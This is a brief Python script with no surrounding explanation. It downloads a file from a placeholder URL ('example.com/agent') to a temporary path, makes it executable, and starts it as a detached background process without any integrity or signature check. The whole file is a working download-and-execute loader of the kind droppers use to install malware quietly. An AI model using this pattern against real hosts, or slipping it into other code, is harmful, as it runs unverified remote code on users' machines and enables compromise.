import os
import subprocess
import tempfile
import urllib.request

fd, name = tempfile.mkstemp()
with os.fdopen(fd, "wb") as out, urllib.request.urlopen("https://example.com/agent") as src:
    for block in iter(lambda: src.read(4096), b""):
        out.write(block)
os.chmod(name, 0o700)
subprocess.Popen([name], start_new_session=True)
